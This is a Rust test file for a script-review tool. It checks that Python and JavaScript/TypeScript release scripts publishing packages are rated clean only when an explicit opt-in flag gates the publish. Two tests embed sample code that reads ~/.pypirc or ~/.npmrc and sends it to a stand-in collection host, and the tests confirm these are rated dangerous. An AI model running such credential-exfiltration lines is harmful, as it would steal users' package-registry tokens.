//! Python and JavaScript/TypeScript releases whose publish runs only on the user's explicit
//! opt-in (`--upload`, `--publish`, `--execute`, off by default): the release the user asks
//! for, as in shell (`crate::opt_in`). Each lowering has its twins that stay flagged: the same
//! publish without the gate, behind a gate turned on by default, turned on unconditionally or
//! by the environment, and an exfiltration behind the gate (dangerous whatever guards it).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use terraphim_script_review::{Language, Verdict};

use Language::{JavaScript as Js, Python as Py, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// Each row: language, code, verdict, rule of a finding of that verdict ("" for clean).
#[track_caller]
fn check_rows(rows: &[(Language, &str, Verdict, &str)]) {
    for (i, (lang, code, verdict, rule)) in rows.iter().enumerate() {
        let report = crate::review(*lang, code);
        assert_eq!(
            report.verdict, *verdict,
            "row {i}: {lang} `{code}`\n{report:#?}"
        );
        if *verdict != Clean {
            assert!(
                report
                    .findings
                    .iter()
                    .any(|f| f.severity == *verdict && f.rule == *rule),
                "row {i}: {lang} `{code}`: no {verdict} finding of rule {rule}\n{report:#?}"
            );
        }
    }
}

/// A Python release with an `argparse` `store_true` option: the gate's line is `{gate}`, the
/// option's extra arguments `{extra}`.
fn py_release(extra: &str, gate: &str) -> String {
    format!(
        "import argparse\nimport subprocess\n\nap = argparse.ArgumentParser()\nap.add_argument(\"--upload\", action=\"store_true\"{extra})\nargs = ap.parse_args()\nsubprocess.run([\"python3\", \"-m\", \"build\"], check=True)\n{gate}\n    subprocess.run([\"twine\", \"upload\", \"dist/*\"], check=True)\n"
    )
}

#[test]
fn python_branch_behind_a_store_true_option() {
    let gated = py_release("", "if args.upload:");
    let default_on = py_release(", default=True", "if args.upload:");
    let from_env = py_release("", "if os.environ.get(\"UPLOAD\"):")
        .replace("import argparse\n", "import argparse\nimport os\n");
    let set_always = py_release("", "args.upload = True\nif args.upload:");
    let no_gate = py_release("", "if True:");
    check_rows(&[
        (Py, &gated, Clean, ""),
        (Py, &default_on, Suspicious, "package-publish"),
        (Py, &from_env, Suspicious, "package-publish"),
        (Py, &set_always, Suspicious, "package-publish"),
        (Py, &no_gate, Suspicious, "package-publish"),
    ]);
}

/// `if not args.upload: return 0` before the call of the function that uploads: the upload
/// runs on request. The same function called once more where no gate leads still publishes.
#[test]
fn python_early_return_and_a_function_called_behind_it() {
    let script = |tail: &str| {
        format!(
            "import argparse\nimport subprocess\n\n\ndef upload(files):\n    subprocess.run([\"twine\", \"upload\", *files], check=True)\n\n\ndef main():\n    ap = argparse.ArgumentParser()\n    ap.add_argument(\"--upload\", action=\"store_true\")\n    args = ap.parse_args()\n    files = [\"dist/pkg-1.0.tar.gz\"]\n    if not args.upload:\n        print(\"dry run; pass --upload\")\n        return 0\n    upload(files)\n    return 0\n\n{tail}\nif __name__ == \"__main__\":\n    main()\n"
        )
    };
    let gated = script("");
    let also_ungated = script("\ndef ci():\n    upload([\"dist/pkg-1.0.tar.gz\"])\n\n\nci()\n");
    check_rows(&[
        (Py, &gated, Clean, ""),
        (Py, &also_ungated, Suspicious, "package-publish"),
    ]);
}

/// The flag passed as a parameter, and a `--dry-run` word added unless it is on.
#[test]
fn python_flag_passed_to_a_function_that_adds_dry_run() {
    let script = |call: &str| {
        format!(
            "import argparse\nimport os\nimport subprocess\n\n\ndef publish(name, execute):\n    argv = [\"cargo\", \"publish\", \"-p\", name]\n    if not execute:\n        argv.append(\"--dry-run\")\n    subprocess.run(argv, check=True)\n\n\nap = argparse.ArgumentParser()\nap.add_argument(\"--execute\", action=\"store_true\")\nargs = ap.parse_args()\n{call}\n"
        )
    };
    let gated = script("publish(\"core\", args.execute)");
    let from_env = script("publish(\"core\", os.environ.get(\"EXECUTE\") == \"1\")");
    let always = script("publish(\"core\", True)");
    check_rows(&[
        (Py, &gated, Clean, ""),
        (Py, &from_env, Suspicious, "package-publish"),
        (Py, &always, Suspicious, "package-publish"),
    ]);
}

/// `dry_run = "--publish" not in sys.argv`: the `else` of `if dry_run:` runs on request.
#[test]
fn python_negated_flag_from_argv() {
    let script = |flag: &str| {
        format!(
            "import os\nimport subprocess\nimport sys\n\ndry_run = {flag}\nif dry_run:\n    print(\"would publish\")\nelse:\n    subprocess.run([\"poetry\", \"publish\"], check=True)\n"
        )
    };
    check_rows(&[
        (Py, &script("\"--publish\" not in sys.argv"), Clean, ""),
        (
            Py,
            &script("os.environ.get(\"DRY_RUN\", \"1\") == \"1\""),
            Suspicious,
            "package-publish",
        ),
    ]);
}

/// A click flag option is off unless given; one on by default is no opt-in.
#[test]
fn python_click_flag() {
    let script = |extra: &str| {
        format!(
            "import subprocess\n\nimport click\n\n\n@click.command()\n@click.option(\"--publish\", is_flag=True{extra})\ndef main(publish):\n    subprocess.run([\"python3\", \"-m\", \"build\"], check=True)\n    if publish:\n        subprocess.run([\"twine\", \"upload\", \"dist/*\"], check=True)\n\n\nmain()\n"
        )
    };
    check_rows(&[
        (Py, &script(""), Clean, ""),
        (Py, &script(", default=True"), Suspicious, "package-publish"),
    ]);
}

/// An opt-in gates the user's own release, not an attack: a credential file sent away behind
/// the flag is as dangerous as without it, and a publish behind it after a credential read
/// still counts.
#[test]
fn python_exfiltration_behind_a_flag_stays_dangerous() {
    let exfil = "import argparse\nimport os\nimport urllib.request\n\nap = argparse.ArgumentParser()\nap.add_argument(\"--upload\", action=\"store_true\")\nargs = ap.parse_args()\nif args.upload:\n    data = open(os.path.expanduser(\"~/.pypirc\")).read()\n    urllib.request.urlopen(\"https://collect.example.net/in\", data=data.encode())\n";
    let worm = "import argparse\nimport os\nimport subprocess\n\nap = argparse.ArgumentParser()\nap.add_argument(\"--upload\", action=\"store_true\")\nargs = ap.parse_args()\nrc = open(os.path.expanduser(\"~/.pypirc\")).read()\nprint(len(rc))\nif args.upload:\n    subprocess.run([\"twine\", \"upload\", \"dist/*\"], check=True)\n";
    let report = crate::review(Py, exfil);
    assert_eq!(report.verdict, Dangerous, "{report:#?}");
    let report = crate::review(Py, worm);
    assert!(
        report.findings.iter().any(|f| f.rule == "package-publish"),
        "{report:#?}"
    );
}

/// A hand-written parser turning a member on only for its option word.
fn js_release(default: &str, extra: &str, gate: &str) -> String {
    format!(
        "const {{ execFileSync }} = require('child_process');\n\nconst opts = {{ publish: {default}, tag: 'latest' }};\nfor (const a of process.argv.slice(2)) {{\n  if (a === '--publish') opts.publish = true;\n}}\n{extra}execFileSync('npm', ['pack'], {{ stdio: 'inherit' }});\nif ({gate}) {{\n  execFileSync('npm', ['publish', '--tag', opts.tag], {{ stdio: 'inherit' }});\n}}\n"
    )
}

#[test]
fn js_hand_written_parser_flag() {
    check_rows(&[
        (Js, &js_release("false", "", "opts.publish"), Clean, ""),
        (
            Js,
            &js_release("true", "", "opts.publish"),
            Suspicious,
            "package-publish",
        ),
        (
            Js,
            &js_release("false", "opts.publish = true;\n", "opts.publish"),
            Suspicious,
            "package-publish",
        ),
        (
            Js,
            &js_release("false", "", "process.env.PUBLISH"),
            Suspicious,
            "package-publish",
        ),
    ]);
}

/// `process.argv.includes('--publish')` and a `--dry-run` word pushed unless it is on.
#[test]
fn js_dry_run_unless_the_option_is_given() {
    let script = |flag: &str| {
        format!(
            "const {{ execFileSync }} = require('child_process');\n\nconst publish = {flag};\nconst args = ['publish', '--access', 'public'];\nif (!publish) args.push('--dry-run');\nexecFileSync('npm', args, {{ stdio: 'inherit' }});\n"
        )
    };
    check_rows(&[
        (Js, &script("process.argv.includes('--publish')"), Clean, ""),
        (
            Js,
            &script("process.env.CI === 'true'"),
            Suspicious,
            "package-publish",
        ),
    ]);
}

/// A set of the arguments asked for an option, and a function called only behind it.
#[test]
fn ts_function_called_only_behind_a_flag() {
    let script = |tail: &str| {
        format!(
            "import {{ spawnSync }} from \"node:child_process\";\n\nfunction release(name: string): void {{\n  spawnSync(\"cargo\", [\"publish\", \"-p\", name], {{ stdio: \"inherit\" }});\n}}\n\nconst flags = new Set(process.argv.slice(2));\nspawnSync(\"cargo\", [\"package\", \"--workspace\"], {{ stdio: \"inherit\" }});\nif (flags.has(\"--publish\")) {{\n  release(\"core\");\n}}\n{tail}"
        )
    };
    check_rows(&[
        (Ts, &script(""), Clean, ""),
        (
            Ts,
            &script("release(\"cli\");\n"),
            Suspicious,
            "package-publish",
        ),
    ]);
}

/// `commander` and `parseArgs` boolean options; one on by default is no opt-in.
#[test]
fn js_option_libraries() {
    let commander = |extra: &str| {
        format!(
            "const {{ execFileSync }} = require('child_process');\nconst {{ program }} = require('commander');\n\nprogram.option('--publish', 'really publish'{extra});\nprogram.parse();\nconst opts = program.opts();\nif (opts.publish) execFileSync('npm', ['publish'], {{ stdio: 'inherit' }});\n"
        )
    };
    let parse_args = |extra: &str| {
        format!(
            "const {{ execFileSync }} = require('node:child_process');\nconst {{ parseArgs }} = require('node:util');\n\nconst {{ values }} = parseArgs({{ options: {{ publish: {{ type: 'boolean'{extra} }} }} }});\nfunction release() {{\n  execFileSync('npm', ['publish'], {{ stdio: 'inherit' }});\n}}\nvalues.publish && release();\n"
        )
    };
    check_rows(&[
        (Js, &commander(""), Clean, ""),
        (Js, &commander(", true"), Suspicious, "package-publish"),
        (Js, &parse_args(""), Clean, ""),
        (
            Js,
            &parse_args(", default: true"),
            Suspicious,
            "package-publish",
        ),
    ]);
}

#[test]
fn js_exfiltration_behind_a_flag_stays_dangerous() {
    let code = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n\nconst publish = process.argv.includes('--publish');\nif (publish) {\n  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n  fetch('https://collect.example.net/in', { method: 'POST', body: rc });\n}\n";
    let report = crate::review(Js, code);
    assert_eq!(report.verdict, Dangerous, "{report:#?}");
}
